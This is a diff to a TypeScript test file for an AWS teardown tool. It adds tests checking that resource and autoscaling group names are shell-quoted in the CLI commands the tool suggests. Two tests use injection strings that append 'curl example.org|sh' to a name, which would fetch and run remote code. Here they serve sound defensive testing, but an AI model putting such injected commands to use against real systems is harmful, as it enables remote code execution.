@@ -5,6 +5,7 @@ import { type StandIn, standIn } from '../../aws/stand-in/stand-in.ts'
 import { stateBucket } from '../bootstrap/names.ts'
 import { CLOSED } from '../release/policy.ts'
 import { sample } from '../samples.ts'
+import { howToRemove } from './inventory.ts'
 import {
   ACCOUNT,
   CHANGING,
@@ -151,12 +152,10 @@ test('a stage that is not there', async () => {
 })
 
 test('what can’t be deleted is said with AWS’s reason, and can be tried again', async () => {
-  const reason = 'resource sg-1 has a dependent object'
+  const reason = 'resource sg-1 has\n  Next: a dependent object'
   there.stacks.execution.failures.push({ id: 'ExternalBalancer', on: 'delete', reason })
   await expect(run(there)).rejects.toThrow(
-    new RegExp(
-      `Stack terrace-prod could not be deleted: it is DELETE_FAILED.\n {2}First to fail: ExternalBalancer: ${reason}`,
-    ),
+    /Stack terrace-prod could not be deleted: it is DELETE_FAILED.\n {2}First to fail: ExternalBalancer: resource sg-1 has Next: a dependent object\n/,
   )
   // Nor is anything but the deletion let through meanwhile.
   expect(there.stacks.find(STACK)?.policy).toBe(JSON.stringify(CLOSED))
@@ -178,16 +177,28 @@ test('a run that was ended while the policy was open: the next one closes it', a
   expect(there.stacks.find(STACK)?.policy).toBe(JSON.stringify(CLOSED))
 })
 
-test('where somebody has suspended the end of servers, nothing is begun', async () => {
+/** A run that finds the end of servers suspended in every group. @param named how AWS calls the groups, when otherwise */
+function runSuspended(named?: string) {
   const { send } = there.aws.autoscaling
   const suspended = async (...args: Parameters<typeof send>) => {
     const answer = await Reflect.apply(send, undefined, args)
-    for (const group of answer.AutoScalingGroups ?? [])
+    for (const group of answer.AutoScalingGroups ?? []) {
       group.SuspendedProcesses = [{ ProcessName: 'AZRebalance' }, { ProcessName: 'Terminate' }]
+      group.AutoScalingGroupName = named ?? group.AutoScalingGroupName
+    }
     return answer
   }
-  const aws = { ...there.aws, autoscaling: { send: suspended as typeof send } }
-  await expect(run({ ...there, aws })).rejects.toThrow(
+  return run({ ...there, aws: { ...there.aws, autoscaling: { send: suspended as typeof send } } })
+}
+
+test('a name that is none of AWS’s can’t end the command that it stands in', async () => {
+  await expect(runSuspended("a';curl example.org|sh;'")).rejects.toThrow(
+    String.raw`--auto-scaling-group-name 'a'\'';curl example.org|sh;'\''' --scaling-processes Terminate`,
+  )
+})
+
+test('where somebody has suspended the end of servers, nothing is begun', async () => {
+  await expect(runSuspended()).rejects.toThrow(
     /Somebody has suspended Terminate in group terrace-prod-ApiGroup(.|\n)*resume-processes --auto-scaling-group-name terrace-prod-ApiGroup-\d+ --scaling-processes Terminate/,
   )
   expect(changing(there)).toEqual([])
@@ -276,4 +287,12 @@ test('what an earlier run has written down, and the stack has no more, is shown 
   const { said } = await run(there, { deletesData: true, agrees: async () => false })
   expect(said).toMatch(/bucket terrace-prod-old-1.*goes for good/)
   expect(said).toMatch(/every snapshot of database terrace-prod-old-2 .*goes for good/)
+})
+
+test('nor can it end a command that removes what was kept', () => {
+  const name = 'a;curl example.org|sh'
+  const kept = ['AWS::S3::Bucket', 'AWS::SecretsManager::Secret'].map((type) => ({ id: 'Kept', type, name }))
+  const said = howToRemove('prod', kept, [name], STAGE.region).join('\n')
+  const options = [...said.matchAll(/ --(?:bucket|secret-id|db-snapshot-identifier) (\S)/g)]
+  expect(options.map(([, first]) => first)).toEqual(["'", "'", "'", "'"])
 })
